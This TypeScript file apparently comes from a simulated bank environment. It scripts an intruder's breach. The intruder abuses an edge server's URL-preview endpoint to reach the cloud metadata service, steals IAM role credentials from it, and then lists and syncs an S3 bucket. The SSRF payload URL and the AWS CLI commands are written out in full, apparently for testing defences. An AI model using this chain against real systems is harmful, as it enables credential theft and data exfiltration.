import http from 'node:http'
import { edge, metadata } from '../bank/network.ts'
import { applications } from '../bank/store.ts'
import { addressOf } from './addresses.ts'
import type { Passed } from './forward-proxy.ts'
import { type Answer, ask, jsonOf } from './http-client.ts'
import { credentialsOf } from './metadata-service.ts'
import { awsTool, awsVersion, ownTool, type Tool } from './thief.ts'
import type { Part, World } from './world.ts'

/** The steps of the breach, in their order. */
export const breachSteps = [
  'probe',
  'find-role',
  'take-credentials',
  'list-buckets',
  'copy-bucket',
] as const

export type BreachStep = (typeof breachSteps)[number]

/** One step of the breach, as it went. */
export interface StepTaken {
  readonly step: BreachStep
  /** What was done, in the words of whoever did it. */
  readonly command: string
  readonly startedMs: number
  readonly endedMs: number
  /** When each object of the bucket was asked for. */
  readonly objectsMs: readonly number[]
  /** When those that were given out were asked for. */
  readonly servedMs: readonly number[]
}

const folder = '/latest/meta-data/iam/security-credentials/'

/** What was learned on the way from one step to the next. */
interface Loot {
  role: string
  credentials: ReturnType<typeof credentialsOf> | null
  tool: Tool | null
}

/** The intruder: tricks the edge from one address, uses what it gave away from another. */
export function intruderPart(world: World): Part {
  const loot: Loot = { role: '', credentials: null, tool: null }
  const take = async (argument: unknown): Promise<StepTaken> => {
    const { step, preferOwn } = decodeWish(argument)
    if (step === 'list-buckets' || step === 'copy-bucket') {
      loot.tool ??= await toolFor(world, loot, preferOwn)
      return useKey(step, loot, loot.tool)
    }
    return trickEdge(world, step, loot)
  }
  return { places: {}, calls: { take } }
}

function trickEdge(
  world: World,
  step: Exclude<BreachStep, 'list-buckets' | 'copy-bucket'>,
  loot: Loot,
): Promise<StepTaken> {
  const path = step === 'find-role' ? folder : `${folder}${loot.role}`
  const url = step === 'probe' ? '/' : `/preview?url=http://${metadata.host}${path}`
  return taken(step, `curl 'https://${edge.host}${url}'`, async () => {
    const { status, body } = await sent(world, url)
    if (status !== 200) throw new Error(`the edge answered ${status} to ${step}`)
    if (step === 'find-role') loot.role = body.toString()
    if (step === 'take-credentials') loot.credentials = credentialsOf(jsonOf({ body }))
    return []
  })
}

async function useKey(
  step: 'list-buckets' | 'copy-bucket',
  loot: Loot,
  tool: Tool,
): Promise<StepTaken> {
  if (step === 'list-buckets') return taken(step, `aws s3 ls  # ${tool.name}`, tool.listBuckets)
  const command = `aws s3 sync s3://${applications} .  # ${tool.name}`
  const copied = await taken(step, command, () => tool.copyBucket(applications))
  tool.close()
  loot.tool = null
  return copied
}

async function toolFor(world: World, { credentials }: Loot, preferOwn: boolean): Promise<Tool> {
  if (credentials === null) throw new Error('there are no credentials to use yet')
  const version = preferOwn ? null : await awsVersion()
  return version === null ? ownTool(world, credentials) : awsTool(world, credentials, version)
}

/** Which step to take, and whether to leave the AWS CLI alone. */
function decodeWish(argument: unknown): { readonly step: BreachStep; readonly preferOwn: boolean } {
  const wish = typeof argument === 'object' && argument !== null ? { ...argument } : {}
  const wanted: Readonly<Record<string, unknown>> = wish
  const step = breachSteps.find((name) => name === wanted['step'])
  if (step === undefined) throw new Error(`there is no step ${String(wanted['step'])}`)
  return { step, preferOwn: wanted['preferOwn'] === true }
}

async function taken(
  step: BreachStep,
  command: string,
  act: () => Promise<readonly Passed[]>,
): Promise<StepTaken> {
  const startedMs = Date.now()
  const passed = await act()
  const objects = passed.filter(({ method, path }) => method === 'GET' && /^\/[^/?]+\//.test(path))
  const served = objects.filter(({ status }) => status === 200)
  return {
    step,
    command,
    startedMs,
    endedMs: Date.now(),
    objectsMs: objects.map(({ ts }) => ts),
    servedMs: served.map(({ ts }) => ts),
  }
}

function sent(world: World, url: string): Promise<Answer> {
  const to = world.place(edge.host)
  const headers = { 'user-agent': 'curl/8.5.0', accept: '*/*' }
  const agent = new http.Agent({ keepAlive: false })
  return ask({
    to,
    host: edge.host,
    method: 'GET',
    url,
    headers,
    from: addressOf('intruder'),
    agent,
  })
}
